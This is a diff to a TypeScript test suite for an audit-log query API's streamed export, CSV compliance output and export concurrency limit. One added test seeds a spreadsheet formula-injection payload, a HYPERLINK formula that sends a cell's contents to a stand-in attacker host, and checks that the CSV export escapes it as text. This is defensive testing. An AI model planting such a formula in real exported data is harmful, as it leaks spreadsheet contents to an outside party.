@@ -24,8 +24,9 @@ describe('query API: streamed export and compliance report', () => {
   const N = 3000;
   const start = Date.now() - 2 * 3_600_000;
   const tricky = '/api/v1/pods?labelSelector=app%20in%20(a,b)&note="quoted"';
+  const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"open")';
   before(async () => {
-    bed = await startQueryTestbed();
+    bed = await startQueryTestbed({ env: { QUERY_MAX_CONCURRENT_EXPORTS: '1' } });
     const specs: SeedEventSpec[] = Array.from({ length: N }, (_, i) => ({
       at: new Date(start + i * 1000), actor: i % 10 === 0 ? 'eve@example.com' : 'system:serviceaccount:agents:mcp',
       verb: i % 2 === 0 ? 'get' : 'list', resource: i % 50 === 0 ? 'secrets' : 'pods', namespace: 'payments',
@@ -34,6 +35,7 @@ describe('query API: streamed export and compliance report', () => {
       ...(i === 11 ? { resource: 'pods', subresource: 'exec', verb: 'create', name: 'api-0' } : {}),
       ...(i === 12 ? { resource: 'rolebindings', apiGroup: 'rbac.authorization.k8s.io', verb: 'create', name: 'x' } : {}),
       ...(i === 13 ? { complete: false } : {}),
+      ...(i === 14 ? { name: formula } : {}),
     }));
     await bed.seedEvents(specs);
   });
@@ -49,6 +51,7 @@ describe('query API: streamed export and compliance report', () => {
     assert.equal(new Set(lines.map((l) => l.auditID)).size, N);
     const times = lines.map((l) => Date.parse(l.requestReceivedTimestamp));
     assert.deepEqual(times, [...times].sort((a, b) => a - b));
+    assert.equal(lines.filter((l) => l.objectRef?.name === formula).length, 1, 'NDJSON keeps every value byte-faithful');
     const limited = await callApi(bed, '/api/v1/export?since=3h&limit=1234&actor=eve%40example.com');
     assert.equal((limited.body as string).trim().split('\n').length, 300);
   });
@@ -62,6 +65,9 @@ describe('query API: streamed export and compliance report', () => {
     assert.equal(rows.length, 2501);
     assert.ok(rows.every((row) => row.length === 21));
     assert.ok(rows.some((row) => row[12] === tricky));
+    // Spreadsheet formula injection: the cell is text (a leading '), never a formula a spreadsheet would run.
+    assert.ok(rows.some((row) => row[11] === `'${formula}`));
+    assert.ok(rows.every((row) => !/^[=+\-@\t\r]/.test(row[11]!) && !/^[=+@\t\r]/.test(row[4]!)));
   });
 
   it('stops cleanly when the client goes away mid-export', async () => {
@@ -81,6 +87,21 @@ describe('query API: streamed export and compliance report', () => {
     assert.equal(record.outcome, 'aborted');
     assert.ok(record.results < N, `wrote ${record.results}`);
     assert.equal((await callApi(bed, '/api/v1/events?since=3h&size=1')).status, 200);
+  });
+
+  it('runs at most QUERY_MAX_CONCURRENT_EXPORTS exports at once (429 beyond), freeing the slot when one ends', async () => {
+    const token = await bed.tokenFor(['analyst'], 'hoarder@example.com');
+    const abort = new AbortController();
+    const res = await fetch(`${bed.baseUrl}/api/v1/export?since=3h`, { headers: { authorization: `Bearer ${token}` }, signal: abort.signal });
+    await res.body!.getReader().read();
+    const refused = await callApi(bed, '/api/v1/export?since=3h&limit=1');
+    assert.equal(refused.status, 429);
+    assert.equal(refused.body.error.code, 'AUDITGATE_E_RATE_LIMITED');
+    abort.abort();
+    const deadline = Date.now() + 5000;
+    let again = await callApi(bed, '/api/v1/export?since=3h&limit=1');
+    while (again.status === 429 && Date.now() < deadline) { await new Promise((r) => setTimeout(r, 100)); again = await callApi(bed, '/api/v1/export?since=3h&limit=1'); }
+    assert.equal(again.status, 200);
   });
 
   it('reports secret reads, denials, exec, RBAC changes and coverage as JSON and escaped HTML', async () => {
